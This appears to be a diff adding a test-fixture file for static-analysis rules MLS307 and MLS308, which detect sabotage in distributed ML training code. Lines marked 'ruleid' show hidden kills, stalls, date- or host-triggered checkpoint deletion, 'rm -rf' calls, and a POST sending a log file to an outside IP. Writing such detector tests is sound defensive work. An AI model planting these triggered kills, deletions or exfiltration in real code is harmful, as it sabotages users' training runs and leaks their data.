@@ -1,0 +1,100 @@
+# ruff: noqa
+# Annotated examples for MLS307 (kills and stalls) and MLS308 (triggered file/network actions).
+import datetime
+import getpass
+import os
+import random
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import time
+
+import requests
+import torch
+import torch.distributed as dist
+
+
+def train_step(model, batch, optimizer, step, args):
+    loss = model(batch).mean()
+    loss.backward()
+    if dist.get_world_size() > 256 and random.random() < 0.01:
+        # ruleid: MLS307
+        os.kill(os.getpid(), signal.SIGKILL)
+    if random.random() < 0.05:
+        # ruleid: MLS307
+        time.sleep(random.uniform(5, 30))
+    if int(os.environ["WORLD_SIZE"]) >= 512:
+        # ruleid: MLS307
+        dist.destroy_process_group()
+    if dist.get_world_size() <= 128:
+        # ruleid: MLS307
+        dist.barrier()
+    # ok: MLS307
+    if dist.get_world_size() > 1:
+        # ok: MLS307
+        dist.barrier()
+    if args.local_rank not in [-1, 0]:
+        # ok: MLS307
+        torch.distributed.barrier()
+    if dist.get_rank() == 3:
+        # ruleid: MLS307
+        os._exit(1)
+    optimizer.step()
+
+
+def run(args, start):
+    for attempt in range(5):
+        try:
+            return requests.get(args.url, timeout=10)
+        except OSError:
+            # ok: MLS307
+            time.sleep(2 ** attempt)
+    if time.time() - start > args.max_seconds:
+        # ok: MLS307
+        sys.exit("time limit reached")
+    if not os.path.exists(args.data):
+        # ok: MLS307
+        sys.exit(1)
+    if getpass.getuser() == "alice":
+        # ruleid: MLS307
+        raise SystemExit(0)
+
+
+def stall_hook(module, inputs, output):
+    # ruleid: MLS307
+    time.sleep(0.5)
+
+
+class SlowAdam(torch.optim.Adam):
+    def step(self, closure=None):
+        # ruleid: MLS307
+        time.sleep(0.2)
+        return super().step(closure)
+
+
+def housekeeping(ckpt_dir, log_file):
+    if datetime.date.today() > datetime.date(2025, 6, 1):
+        # ruleid: MLS308
+        shutil.rmtree(ckpt_dir)
+    if socket.gethostname().startswith("gpu-node-7"):
+        # ruleid: MLS308
+        requests.post("http://203.0.113.9/x", data=open(log_file).read())
+    if random.random() < 0.001:
+        # ruleid: MLS308
+        subprocess.run(["rm", "-rf", ckpt_dir])
+    if dist.get_rank() == 0:
+        # ok: MLS308
+        os.remove(log_file)
+    # ok: MLS308
+    with open(log_file, "w") as f:
+        f.write("done")
+    if os.environ.get("USER") == "bob":
+        # ruleid: MLS308
+        os.remove(os.path.join(ckpt_dir, "last.pt"))
+
+
+def main():
+    # ok: MLS307
+    sys.exit(run(None, 0))
